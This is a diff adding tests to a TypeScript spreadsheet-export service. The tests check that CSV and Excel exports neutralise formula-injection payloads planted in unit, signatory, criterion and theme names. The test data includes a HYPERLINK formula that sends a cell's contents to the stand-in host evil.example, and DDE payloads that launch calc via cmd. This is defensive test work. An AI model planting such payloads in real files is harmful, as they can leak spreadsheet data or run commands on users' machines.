@@ -2,7 +2,7 @@ import ExcelJS from 'exceljs';
 import { Role } from '../../src/commands/actor';
 import { expectNothingAppendedSince, ok } from '../support/mutations';
 import { startService, type TestService } from '../support/service';
-import { CLUSTER, MEMBERS, openYear, registerCluster, score } from '../support/year-scenario';
+import { CLUSTER, CRITERIA_SET, MEMBERS, openYear, registerCluster, score } from '../support/year-scenario';
 
 const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
 
@@ -78,6 +78,75 @@ describe('Excel in and out', () => {
     expect(bad.status).toBe(400);
     expect(((await bad.json()) as any).errors[0].extensions.code).toBe('BAD_USER_INPUT');
     expect((await get(`/exports/rankings/${CLUSTER}/2030.csv`)).status).toBe(404);
+  });
+
+  describe('CSV exports neutralise formulas planted in names (OWASP CSV injection)', () => {
+    const PLANTED = {
+      signatoryName: '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
+      signatoryPosition: "@SUM(1+1)*cmd|' /C calc'!A0",
+      unitName: "-2+3+cmd|' /C calc'!A0",
+      criterionName: '+thu thập',
+      sectionName: '\tMục độc',
+      theme: '=1+1',
+    };
+    /** RFC 4180 fields of every record, unquoted. */
+    const fields = (csv: string) => {
+      const out: string[] = [];
+      const pattern = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
+      for (let m = pattern.exec(csv.replace(/^\uFEFF/, '')); m && m[0] !== ''; m = pattern.exec(csv))
+        out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
+      return out;
+    };
+    const dangerous = (field: string) => /^[=+\-@\t\r]/.test(field) && !/^-\d+(\.\d+)?$/.test(field);
+
+    beforeAll(async () => {
+      await ok(service, 'registerUnit', { unitId: 'don-vi-doc', name: PLANTED.unitName, level: 'DISTRICT', parentUnitId: 'vks-an-giang' });
+      await ok(service, 'publishCriteriaSet', {
+        ...CRITERIA_SET,
+        criteriaSetId: 'bo-doc',
+        sections: [
+          {
+            sectionId: 'I',
+            name: PLANTED.sectionName,
+            criteria: [
+              { criterionId: 'x1', name: PLANTED.criterionName, kind: 'STANDARD', maxPoints: 50 },
+              { criterionId: 'p1', name: 'Vi phạm bị xử lý', kind: 'PENALTY', maxPoints: 10 },
+            ],
+          },
+        ],
+        thresholds: [{ classification: 'Hoàn thành', minPoints: 30, titleId: null }],
+      });
+      const year = { clusterId: CLUSTER, year: 2023 };
+      await ok(service, 'openClusterYear', { ...year, memberUnitIds: ['tan-chau', 'don-vi-doc'] });
+      await ok(service, 'rotateChair', { ...year, chairUnitId: 'don-vi-doc', viceChairUnitId: 'tan-chau' });
+      await ok(service, 'adoptCriteriaSet', { ...year, criteriaSetId: 'bo-doc' });
+      await ok(service, 'draftAgreement', { ...year, theme: PLANTED.theme, commitments: [], legalBases: ['15/HD-VKSTC'], ceremonyDate: '2023-02-22', hostUnitId: 'tan-chau' });
+      const officer = await service.token('can-bo-doc', { role: Role.UNIT_OFFICER, unit: 'don-vi-doc', name: 'Cán bộ' });
+      const signature = { signatoryName: PLANTED.signatoryName, signatoryPosition: PLANTED.signatoryPosition, signedOn: '2023-02-22' };
+      await ok(service, 'signAgreement', { ...year, unitId: 'don-vi-doc', ...signature }, officer);
+      await ok(service, 'recordScore', { ...year, unitId: 'don-vi-doc', criterionId: 'p1', stage: 'SELF', points: 10 });
+      await ok(service, 'recordScore', { ...year, unitId: 'tan-chau', criterionId: 'x1', stage: 'SELF', points: 40 });
+    });
+
+    it('writes every planted text cell quoted behind a single quote; negative points stay numbers', async () => {
+      const paths = [`/exports/cluster-year/${CLUSTER}/2023.csv`, `/exports/rankings/${CLUSTER}/2023.csv`, `/exports/score-sheet/${CLUSTER}/2023/don-vi-doc.csv`, `/imports/score-sheet/${CLUSTER}/2023/template.csv`];
+      const csvs = await Promise.all(paths.map(async (path) => (await get(path)).text()));
+      const all = csvs.flatMap(fields);
+      expect(all.filter(dangerous)).toEqual([]);
+      const raw = csvs.join('\n');
+      expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")"`);
+      expect(all).toEqual(expect.arrayContaining([`'${PLANTED.signatoryPosition}`, `'${PLANTED.unitName}`, `'${PLANTED.criterionName}`, `'${PLANTED.sectionName}`]));
+      const ranking = fields(csvs[1]);
+      expect(ranking).toContain('-10.00');
+      expect(csvs[1]).toMatch(/,-10\.00,/);
+    });
+
+    it('keeps the planted text as plain strings in .xlsx, never formulas', async () => {
+      const sheet = (await workbook(await get(`/exports/cluster-year/${CLUSTER}/2023.xlsx`))).getWorksheet('Giao ước')!;
+      const row = sheet.getRow(3);
+      expect([row.getCell(2).value, row.getCell(3).value]).toEqual([PLANTED.signatoryName, PLANTED.signatoryPosition]);
+      expect([row.getCell(2).type, row.getCell(3).type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    });
   });
 
   describe('score sheet import', () => {
